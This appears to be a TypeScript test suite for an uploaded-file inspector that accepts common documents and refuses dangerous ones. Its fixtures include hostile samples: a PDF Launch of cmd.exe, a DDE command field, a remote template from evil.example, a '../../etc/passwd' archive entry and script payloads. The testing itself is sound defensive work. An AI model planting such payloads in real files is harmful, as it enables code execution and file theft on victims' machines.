import { describe, expect, it } from 'vitest';
import * as sample from '#test/support/sample-files.ts';
import { inspect } from './inspect.ts';
import type { FileRefusal } from './refusal.ts';

const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const manyMegabytes = Buffer.alloc(70 * 1024 * 1024);

describe('is taken', () => {
  it.each([
    ['a PDF', sample.pdf(), 'pdf'],
    ['a JPEG', sample.jpeg(), 'jpeg'],
    ['a PNG', sample.png(), 'png'],
    ['a Word document', sample.docx(), 'docx'],
    ['an Excel document', sample.xlsx(), 'xlsx'],
    [
      'a PDF that writes of HTML/CSS/JavaScript',
      sample.pdf('4 0 obj\n<< /Title (HTML/CSS/JavaScript) >>\nendobj'),
      'pdf',
    ],
    [
      'a Word document with a link',
      sample.docx('x', [{ name: 'word/_rels/document.xml.rels', bytes: relation('hyperlink', 'https://example.jp/') }]),
      'docx',
    ],
    [
      'a Word document with a chart',
      sample.docx('x', [{ name: 'word/embeddings/chart1.xlsx', bytes: sample.xlsx() }]),
      'docx',
    ],
  ])('%s', async (_what, bytes, kind) => {
    expect(await inspect(bytes)).toHaveProperty('accepted.kind', kind);
  });
});

describe('is refused', () => {
  const table: [string, Buffer, FileRefusal][] = [
    ['nothing at all', Buffer.alloc(0), 'empty'],
    ['a page', sample.html(), 'kind'],
    ['an SVG', sample.svg(), 'kind'],
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), 'kind'],
    ['a text', Buffer.from('志望動機'), 'kind'],
    ['a ZIP of anything', sample.zip([{ name: 'a.txt', bytes: 'a' }]), 'kind'],
    ['an old Word document', Buffer.concat([sample.sealedOffice().subarray(0, 8), Buffer.alloc(2000)]), 'kind'],
    ['a Word document with a password', sample.sealedOffice(), 'encrypted'],
    ['a PDF with a password', sample.pdf('', '/Encrypt 9 0 R'), 'encrypted'],
    ['a PDF with a password, written oddly', sample.pdf('', '/#45ncrypt << /V 4 >>'), 'encrypted'],
    [
      'a Word document with an encrypted part',
      sample.docx('x', [{ name: 'word/a.xml', bytes: 'a', flags: 1 }]),
      'encrypted',
    ],
    ['a docm', sample.docx('x', [], macroType), 'macros'],
    ['macros in a docx', sample.docx('x', [{ name: 'word/vbaProject.bin', bytes: 'macro' }]), 'macros'],
    ['macros in an xlsx', sample.xlsx([{ name: 'xl/macrosheets/sheet1.xml', bytes: '<a/>' }]), 'macros'],
    [
      'a chart that is a docx with macros',
      sample.docx('x', [
        { name: 'word/embeddings/a.xlsx', bytes: sample.xlsx([{ name: 'xl/vbaProject.bin', bytes: 'm' }]) },
      ]),
      'macros',
    ],
    ['a PDF with a script', sample.pdf('4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj'), 'active'],
    [
      'a PDF with a script, written oddly',
      sample.pdf('4 0 obj\n<< /S%x\n/J#61vaScript /JS 7 0 R >>\nendobj'),
      'active',
    ],
    [
      'a PDF with a script in an object stream',
      sample.pdf(sample.objectStream('4 0 << /S /JavaScript /JS (x) >>')),
      'active',
    ],
    ['a PDF that starts a program', sample.pdf('4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj'), 'active'],
    ['a PDF with a file inside', sample.pdf('4 0 obj\n<< /EmbeddedFiles << /Names [] >> >>\nendobj'), 'active'],
    [
      'a Word document with a template from elsewhere',
      sample.docx('x', [
        { name: 'word/_rels/settings.xml.rels', bytes: relation('attachedTemplate', 'https://evil.example/a.dotm') },
      ]),
      'active',
    ],
    [
      'a Word document with an object',
      sample.docx('x', [{ name: 'word/embeddings/oleObject1.bin', bytes: 'x' }]),
      'active',
    ],
    [
      'a Word document with DDE over two runs',
      sample.docx('x', [
        {
          name: 'word/footer1.xml',
          bytes: '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText>',
        },
      ]),
      'active',
    ],
    [
      'a PDF that is a ZIP as well',
      Buffer.concat([sample.pdf(), sample.zip([{ name: 'a', bytes: 'a' }])]),
      'two-in-one',
    ],
    ['a PDF that is a page as well', Buffer.from('%PDF-1.7\n<html><script>alert(1)</script>\n%%EOF\n'), 'two-in-one'],
    ['two Word documents behind each other', Buffer.concat([sample.docx(), sample.docx()]), 'two-in-one'],
    ['a PDF of an object stream without end', sample.pdf(sample.objectStream('x'.repeat(70 * 1024 * 1024))), 'swollen'],
    [
      'a Word document that unpacks to 70 MB',
      sample.docx('x', [{ name: 'word/big.xml', bytes: manyMegabytes }]),
      'swollen',
    ],
    [
      'the same, claiming a byte',
      sample.docx('x', [{ name: 'word/big.xml', bytes: manyMegabytes, claimed: 1 }]),
      'swollen',
    ],
    ['a picture of 10,000 megapixels', sample.png({}, 100_000, 100_000), 'swollen'],
    ['half a PDF', sample.pdf().subarray(0, 80), 'broken'],
    ['half a JPEG', sample.jpeg().subarray(0, -6), 'broken'],
    ['half a PNG', sample.png().subarray(0, -6), 'broken'],
    ['a PNG with a changed byte', changed(sample.png()), 'broken'],
    ['a Word document that leaves its folder', sample.docx('x', [{ name: '../../etc/passwd', bytes: 'x' }]), 'broken'],
    ['a Word document with a name twice', sample.docx('x', [{ name: 'word/DOCUMENT.xml', bytes: 'x' }]), 'broken'],
  ];
  it.each(table)('%s', async (_what, bytes, because) => {
    expect(await inspect(bytes)).toEqual({ refused: because });
  });
});

describe('a picture', () => {
  it('keeps how it is turned and loses where it was taken, who wrote what, and what hangs behind it', async () => {
    const photo = Buffer.concat([
      sample.jpeg([
        [0xe1, sample.exif(6)],
        [0xe1, 'http://ns.adobe.com/xap/1.0/\0 creator 佐藤'],
        [0xed, 'Photoshop 3.0\0 caption'],
        [0xfe, '<script>alert(1)</script>'],
        [0xe2, 'ICC_PROFILE\0\x01\x01profile'],
      ]),
      sample.zip([{ name: 'a', bytes: 'a' }]),
    ]);
    const decision = await inspect(photo);
    if ('refused' in decision) throw new Error(decision.refused);
    const text = decision.accepted.bytes.toString('latin1');
    for (const told of ['GPS', 'creator', 'Photoshop', 'script', 'PK\x05\x06']) expect(text).not.toContain(told);
    expect(text).toContain('ICC_PROFILE');
    const at = text.indexOf('Exif\0\0MM');
    expect(decision.accepted.bytes.readUInt16BE(at + 6 + 18)).toBe(6);
    expect(decision.accepted.bytes.subarray(-6)).toEqual(Buffer.from([0x3f, 0xff, 0x00, 0x3f, 0xff, 0xd9]));
    expect(await inspect(decision.accepted.bytes)).toEqual(decision);
  });

  it('as PNG loses texts, times and what hangs behind it', async () => {
    const shot = Buffer.concat([
      sample.png({ tEXt: 'Author\0Sato', gAMA: '\0\0\xb1\x8f', eXIf: 'MM GPS' }),
      sample.html(),
    ]);
    const decision = await inspect(shot);
    if ('refused' in decision) throw new Error(decision.refused);
    const text = decision.accepted.bytes.toString('latin1');
    for (const told of ['Author', 'GPS', 'script']) expect(text).not.toContain(told);
    expect(text).toContain('gAMA');
  });
});

function changed(bytes: Buffer): Buffer {
  const other = Buffer.from(bytes);
  other[other.length - 20] = (other[other.length - 20] ?? 0) ^ 1;
  return other;
}
